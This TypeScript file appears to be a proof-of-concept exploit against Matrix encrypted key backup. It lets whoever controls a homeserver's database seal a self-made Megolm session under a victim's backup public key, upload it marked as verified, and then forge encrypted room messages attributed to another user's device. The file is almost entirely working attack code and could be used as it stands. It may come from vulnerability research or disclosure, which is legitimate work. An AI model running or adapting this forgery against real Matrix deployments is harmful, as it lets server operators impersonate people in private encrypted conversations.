/**
 * A key put into somebody's backup by whoever holds the homeserver's database, and messages under it. The backup (Client-Server API,
 * `m.megolm_backup.v1.curve25519-aes-sha2`) is sealed for a public key that the homeserver knows, and signed by nobody.
 */
import { DeviceId, EncryptionSettings, initAsync, OlmMachine, RoomId, UserId } from "@matrix-org/matrix-sdk-crypto-wasm";
import { createCipheriv, createHmac, createPublicKey, diffieHellman, generateKeyPairSync, hkdfSync } from "node:crypto";
import type { Operator } from "./operator.ts";

/** The device that the forger says the words come from. */
export interface ClaimedDevice {
  readonly userId: string;
  readonly deviceId: string;
  readonly curve25519: string;
  readonly ed25519: string;
}

export interface Forgery {
  /** Contents of `m.room.encrypted` that hold these messages; a relation stands outside too, where Matrix wants it. */
  encrypt(content: Readonly<Record<string, unknown>>): Promise<object>;
}

const unpadded = (bytes: Buffer): string => bytes.toString("base64").replace(/=+$/, "");

/** Seals for the owner of a backup what they did not put there. */
function sealedFor(publicKey: string, session: object): { readonly ephemeral: string; readonly ciphertext: string; readonly mac: string } {
  const ephemeral = generateKeyPairSync("x25519");
  const own = ephemeral.publicKey.export({ format: "jwk" }).x ?? "";
  const theirs = createPublicKey({ format: "jwk", key: { kty: "OKP", crv: "X25519", x: Buffer.from(publicKey, "base64").toString("base64url") } });
  const shared = diffieHellman({ privateKey: ephemeral.privateKey, publicKey: theirs });
  const keys = Buffer.from(hkdfSync("sha256", shared, Buffer.alloc(32), "", 80));
  const cipher = createCipheriv("aes-256-cbc", keys.subarray(0, 32), keys.subarray(64, 80));
  const ciphertext = Buffer.concat([cipher.update(JSON.stringify(session)), cipher.final()]);
  // The algorithm's own mistake, which all clients share: what is authenticated is nothing.
  const mac = createHmac("sha256", keys.subarray(32, 64)).update("").digest().subarray(0, 8);
  return { ephemeral: unpadded(Buffer.from(own, "base64url")), ciphertext: unpadded(ciphertext), mac: unpadded(mac) };
}

/** Puts a Megolm session of the operator's own into the backup of `victim`, as one of a room and of somebody's device. */
export async function forgeInBackup(operator: Operator, victim: string, roomId: string, claimed: ClaimedDevice): Promise<Forgery> {
  await initAsync();
  const machine = await OlmMachine.initialize(new UserId(claimed.userId), new DeviceId(claimed.deviceId));
  await machine.shareRoomKey(new RoomId(roomId), [], new EncryptionSettings());
  const encrypt = async (content: Readonly<Record<string, unknown>>): Promise<Record<string, unknown>> => {
    const relation = content["m.relates_to"];
    const encrypted = JSON.parse(await machine.encryptRoomEvent(new RoomId(roomId), "m.room.message", JSON.stringify(content))) as Record<string, unknown>;
    return { ...encrypted, sender_key: claimed.curve25519, device_id: claimed.deviceId, ...(relation === undefined ? {} : { "m.relates_to": relation }) };
  };
  const [exported] = JSON.parse(await machine.exportRoomKeys(() => true)) as { readonly session_id: string; readonly session_key: string }[];
  if (exported === undefined) throw new Error("a session was made");
  const session = {
    algorithm: "m.megolm.v1.aes-sha2",
    sender_key: claimed.curve25519,
    sender_claimed_keys: { ed25519: claimed.ed25519 },
    forwarding_curve25519_key_chain: [],
    session_key: exported.session_key,
  };
  const { version, auth_data: sealing } = (await operator.as(victim, "GET", "room_keys/version")) as { readonly version: string; readonly auth_data: { readonly public_key: string } };
  const place = [roomId, exported.session_id].map(encodeURIComponent).join("/");
  await operator.as(victim, "PUT", `room_keys/keys/${place}?version=${encodeURIComponent(version)}`, {
    first_message_index: 0,
    forwarded_count: 0,
    is_verified: true,
    session_data: sealedFor(sealing.public_key, session),
  });
  return { encrypt };
}
